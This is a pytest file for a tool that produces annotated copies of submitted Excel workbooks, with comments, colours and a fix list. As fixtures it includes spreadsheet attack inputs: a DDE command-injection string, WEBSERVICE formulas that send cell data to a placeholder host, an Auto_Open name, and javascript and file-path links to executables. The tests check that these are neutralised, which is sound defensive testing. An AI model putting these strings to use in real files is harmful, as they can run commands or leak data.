"""The annotated copy: marks that come off again, a fix list, and nothing lost or started. Invented data."""

from __future__ import annotations

import hashlib
import zipfile
from dataclasses import replace
from io import BytesIO

import pytest
from made_workbooks import blank_form
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule, ColorScaleRule, FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink
from workbooks import opened, with_role
from xlsxwriter import Workbook as Writer

from checker.errors import Locus
from checker.model.assessment import Finding, Refusal, Run, Severity
from checker.model.form import FIXES
from checker.model.locality import Gazetteer
from checker.model.pack import Pack
from checker.reports.forms.annotate import to_annotated, to_fix_list, was_opened
from checker.reports.forms.marks import AUTHOR, COLOURS
from checker.use_cases.judging import Yardstick, judge_files
from tests.builders import waiver

SHEET = "填报 it's"


def at(sheet: str, line: int, column: int, code: str = "not-whole", severity: Severity = "critical") -> Finding:
    locus = Locus("a.xlsx", sheet=sheet, line=line, column=column)
    return Finding(code, severity, locus, {"found": "12.7", "expected": "5"})


def refused(pack: Pack, *findings: Finding) -> Run:
    return Run(pack, 1, (), (Refusal("a.xlsx", findings),), (), ())


def saved(book: Workbook) -> bytes:
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def summary_of(annotated: Workbook) -> list[str]:
    """Return what the fix list says, row by row."""
    return [str(cells[0].value) for cells in with_role(annotated, FIXES).iter_rows(min_col=2, max_col=2)]


@pytest.fixture
def book() -> Workbook:
    """A workbook as somebody may send it."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = SHEET
    sheet["B7"], sheet["C7"], sheet["D9"] = 12.7, "as typed", 5
    sheet["C7"].comment = Comment("who typed this?", "Li")
    sheet["D9"].fill = PatternFill("solid", fgColor="00FF00")
    sheet.conditional_formatting.add("D9", CellIsRule(operator="greaterThan", formula=["3"]))
    sheet.merge_cells("F2:G3")
    return book


def test_cells_are_coloured_and_commented_by_what_was_found(pack: Pack, book: Workbook) -> None:
    run = refused(pack, at(SHEET, 7, 2), at(SHEET, 7, 3, severity="major"), at(SHEET, 7, 3, severity="note"))
    sheet = opened(to_annotated(saved(book), run, "zh"))[SHEET]
    comment = sheet["B7"].comment
    assert comment is not None
    assert comment.author == AUTHOR
    assert "12.7" in comment.text
    assert "严重" in comment.text
    colours = {
        str(one.sqref): rule.dxf.fill.bgColor.rgb[2:]
        for one in sheet.conditional_formatting
        for rule in one.rules
        if rule.dxf and rule.dxf.fill
    }
    assert colours == {"B7": COLOURS["critical"], "C7": COLOURS["major"]}
    assert sheet["D9"].fill.fgColor.rgb == "0000FF00"


def test_what_is_waived_says_so_and_by_whom(pack: Pack, book: Workbook) -> None:
    waived = replace(at(SHEET, 7, 2, severity="minor"), waiver=waiver())
    annotated = opened(to_annotated(saved(book), refused(pack, waived), "zh"))
    comment = annotated[SHEET]["B7"].comment
    assert comment is not None
    cells = {str(cell) for row in with_role(annotated, FIXES).iter_rows(values_only=True) for cell in row}
    assert "次要、已豁免" in cells
    (why,) = (cell for cell in cells if "有效至 2020-12-31" in cell)
    assert f"→ {why}" in comment.text


def test_what_others_wrote_stays(pack: Pack, book: Workbook) -> None:
    first = to_annotated(saved(book), refused(pack, at(SHEET, 7, 3)), "en")
    comment = opened(first)[SHEET]["C7"].comment
    assert comment is not None
    assert comment.text.startswith("who typed this?\n[checker]\n")
    again = opened(to_annotated(first, refused(pack, at(SHEET, 7, 2)), "en"))[SHEET]["C7"].comment
    assert again is not None
    assert (again.text, again.author) == ("who typed this?", "Li")


def test_a_second_round_takes_off_the_marks_of_the_first(pack: Pack, book: Workbook) -> None:
    first = to_annotated(saved(book), refused(pack, at(SHEET, 7, 2), at(SHEET, 9, 4)), "zh")
    second = opened(to_annotated(first, refused(pack, at(SHEET, 9, 4)), "zh"))
    sheet = second[SHEET]
    assert sheet["B7"].comment is None
    formulas = sorted(rule.formula[0] for one in sheet.conditional_formatting for rule in one.rules)
    assert formulas == ["3", 'N("checker")=0']
    assert sum(one["A1"].value == FIXES for one in second.worksheets) == 1


def test_fix_list_stands_first_and_links_to_the_cells(pack: Pack, book: Workbook) -> None:
    elsewhere = Finding("missing-field", "minor", Locus("a.xlsx"), {"expected": "period"})
    annotated = opened(to_annotated(saved(book), refused(pack, elsewhere, at(SHEET, 7, 2)), "en"))
    assert annotated.active is annotated.worksheets[0]
    fixes = with_role(annotated, FIXES)
    assert fixes.title == annotated.sheetnames[0] == "修改清单 Fix list"
    rows = [[cell.value for cell in cells[1:]] for cells in fixes.iter_rows()]
    head = next(number for number, cells in enumerate(rows) if cells[0] == "no.")
    worst, other = rows[head + 1 : head + 3]
    assert (worst[0], worst[1], worst[3], worst[6]) == ("1", "critical", f"{SHEET}!B7", "not-whole")
    assert (other[0], other[1], other[3]) == ("2", "minor", "the whole file")
    link = fixes.cell(head + 2, 5).hyperlink
    assert link is not None
    assert link.location == "'填报 it''s'!B7"
    assert fixes.cell(head + 3, 5).hyperlink is None
    assert all(
        cells[0].value for cells in fixes.iter_rows(max_col=1) if any(cell.value for cell in fixes[cells[0].row])
    )
    assert not any(sheet.sheet_view.tabSelected for sheet in annotated.worksheets[1:])


def test_a_merged_cell_is_marked_at_its_first(pack: Pack, book: Workbook) -> None:
    sheet = opened(to_annotated(saved(book), refused(pack, at(SHEET, 3, 7)), "zh"))[SHEET]
    assert sheet["F2"].comment is not None


def test_a_sheet_of_the_submitter_keeps_its_name(pack: Pack, book: Workbook) -> None:
    book.create_sheet("修改清单 Fix list")["A1"] = "my own"
    annotated = opened(to_annotated(saved(book), refused(pack, at(SHEET, 7, 2)), "zh"))
    assert annotated.sheetnames == ["修改清单 Fix list 2", SHEET, "修改清单 Fix list"]


def test_formulas_become_their_values_and_text_stays_text(pack: Pack) -> None:
    buffer = BytesIO()
    writer = Writer(buffer, {"in_memory": True})
    sheet = writer.add_worksheet("s")
    sheet.write_formula("A1", "=1+1", None, 2)
    sheet.write_formula("A2", '=WEBSERVICE("http://example.invalid")', None, "=danger()")
    sheet.write_string("A3", "=cmd|' /C calc'!A0")
    sheet.write_formula("A4", "=1/0", None, "#DIV/0!")
    writer.close()
    plain = opened(buffer.getvalue())
    plain["s"]["A5"] = "=2+2"  # saved without a value
    for cells in ("A1", "A2", "A4"):
        assert plain["s"][cells].data_type == "f"
    annotated = opened(to_annotated(buffer.getvalue(), refused(pack, at("s", 3, 1)), "en"))
    found = annotated["s"]
    assert [(found[f"A{n}"].value, found[f"A{n}"].data_type) for n in (1, 2, 3, 4)] == [
        (2, "n"),
        ("=danger()", "s"),
        ("=cmd|' /C calc'!A0", "s"),
        ("#DIV/0!", "e"),
    ]
    assert "=1+1" in found["A1"].comment.text
    without = opened(to_annotated(saved(plain), refused(pack, at("s", 3, 1)), "en"))["s"]
    assert (without["A5"].value, without["A5"].data_type) == ("=2+2", "s")


def test_formulas_without_a_value_are_counted_apart(pack: Pack, book: Workbook) -> None:
    book[SHEET]["A1"] = "=2+2"
    annotated = opened(to_annotated(saved(book), refused(pack, at(SHEET, 7, 2)), "zh"))
    lines = summary_of(annotated)
    assert "1 个公式没有保存结果，已换成公式的文字" in lines
    assert not any("已换成其值" in line for line in lines)


REACHING = (
    'WEBSERVICE("http://example.invalid/"&H9)="x"',
    "[1]Sheet1!$A$1>0",
    "cmd|' /C calc'!A0",
    "_xlfn.WEBSERVICE(A1)>0",
    "Auto_Open=1",
    "INDIRECT(A1)>0",
)


@pytest.mark.parametrize("formula", REACHING)
def test_rules_and_formats_that_could_reach_out_are_left_out(pack: Pack, book: Workbook, formula: str) -> None:
    sheet = book[SHEET]
    sheet.conditional_formatting.add("B2:B9", FormulaRule(formula=[formula]))
    scale = ColorScaleRule(start_type="formula", start_value=formula, start_color="FFFFFF", end_type="max")
    sheet.conditional_formatting.add("B2:B9", scale)
    rule = DataValidation(type="custom", formula1=formula)
    rule.add("P1")
    sheet.add_data_validation(rule)
    annotated = opened(to_annotated(saved(book), refused(pack, at(SHEET, 7, 2)), "zh"))
    formulas = sorted(rule.formula[0] for one in annotated[SHEET].conditional_formatting for rule in one.rules)
    assert formulas == ["3", 'N("checker")=0']
    assert annotated[SHEET].data_validations.dataValidation == []
    assert any(line.startswith("3 处可能引用外部内容") for line in summary_of(annotated))


def test_names_and_links_that_could_start_something_are_left_out(pack: Pack, book: Workbook) -> None:
    sheet = book[SHEET]
    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text='WEBSERVICE("http://example.invalid/")')
    sheet.defined_names["far"] = DefinedName("far", attr_text="[1]Sheet1!$A$1")
    links = ("javascript:alert(1)", r"\\server\a.exe", "file:///c:/a.exe", "other.xlsx", "https://example.invalid/")
    for row, link in enumerate(links, 20):
        sheet.cell(row, 1, "x").hyperlink = link
    sheet["A30"] = "x"
    sheet["A30"].hyperlink = Hyperlink(ref="A30", location="'填报 it''s'!B7")
    content = to_annotated(saved(book), refused(pack, at(SHEET, 7, 2)), "en")
    annotated = opened(content)
    kept = [cells[0].coordinate for cells in annotated[SHEET].iter_rows(max_col=1) if cells[0].hyperlink]
    assert kept == ["A24", "A30"]
    assert annotated[SHEET]["A20"].value == "x"
    assert (len(annotated.defined_names), len(annotated[SHEET].defined_names)) == (0, 0)
    assert annotated.calculation.fullCalcOnLoad is False
    assert any(line.endswith("left out of this copy: 6") for line in summary_of(annotated))


@pytest.mark.parametrize("reference", ["'填报 it''s'!$B$7", r"'\\server\[a.xlsx]s'!$B$7"])
def test_charts_stay_that_draw_cells_of_the_workbook(pack: Pack, book: Workbook, reference: str) -> None:
    chart = BarChart()
    chart.add_data(Reference(book[SHEET], min_col=2, min_row=7))
    chart.series[0].val.numRef.f = reference
    book[SHEET].add_chart(chart, "H1")
    content = to_annotated(saved(book), refused(pack, at(SHEET, 7, 2)), "zh")
    with zipfile.ZipFile(BytesIO(content)) as parts:
        assert ("xl/charts/chart1.xml" in parts.namelist()) == ("server" not in reference)


def test_a_form_of_ours_keeps_its_lists_and_rules(pack: Pack, gazetteer: Gazetteer) -> None:
    form = blank_form(pack, gazetteer)
    before, after = opened(form), opened(to_annotated(form, refused(pack, at("?", 0, 0)), "zh"))
    assert {*after.defined_names} == {*before.defined_names} != set()
    for sheet in before.worksheets:
        rules = [len(one[sheet.title].data_validations.dataValidation) for one in (before, after)]
        formats = [len(one[sheet.title].conditional_formatting) for one in (before, after)]
        assert (rules[0], formats[0]) == (rules[1], formats[1])
    assert not any("没有放进本副本" in line for line in summary_of(after))


def test_one_comment_tells_a_few_findings_and_counts_the_rest(pack: Pack, book: Workbook) -> None:
    run = refused(pack, *(at(SHEET, 7, 2) for _ in range(8)))
    comment = opened(to_annotated(saved(book), run, "en"))[SHEET]["B7"].comment
    assert comment is not None
    assert comment.text.endswith("3 more in the fix list")


def test_a_file_that_cannot_be_copied_gets_the_list_alone(pack: Pack) -> None:
    run = refused(pack, Finding("unknown-format", "critical", Locus("a.xlsx"), {"found": "?"}))
    assert not was_opened(run)
    assert opened(to_fix_list(run, "zh")).sheetnames == ["修改清单 Fix list"]


def test_two_cells_far_apart_are_two_cells(pack: Pack) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"], sheet["XFD1048576"] = 1, 2
    run = refused(pack, at("Sheet", 1_048_576, 16_384))
    annotated = opened(to_annotated(saved(book), run, "zh"))
    assert annotated["Sheet"]["XFD1048576"].comment is not None


def test_verdict_and_score_stand_on_top(pack: Pack, book: Workbook) -> None:
    run = judge_files(Yardstick(pack), ["submissions/2020-H1/140100-taiyuan.yaml"])
    sheet = with_role(opened(to_annotated(saved(book), run, "en")), FIXES)
    top = [str(sheet.cell(number, 2).value) for number in range(2, 6)]
    assert top[0] == "Fix list"
    assert top[1].startswith("140100 Taiyuan 2020-H1  Verdict: ")
    assert top[2].startswith("score ")


def test_same_findings_give_the_same_bytes_and_the_original_is_left_alone(pack: Pack, book: Workbook) -> None:
    content = saved(book)
    before = hashlib.sha256(content).hexdigest()
    copies = {to_annotated(content, refused(pack, at(SHEET, 7, 2)), "zh") for _ in range(2)}
    assert len(copies) == 1
    assert hashlib.sha256(content).hexdigest() == before


def test_nothing_the_submitter_wrote_becomes_a_formula_of_the_list(pack: Pack) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "=1+1"
    annotated = opened(to_annotated(saved(book), refused(pack, at("=1+1", 1, 1)), "zh"))
    cells = [cell for row in with_role(annotated, FIXES).iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
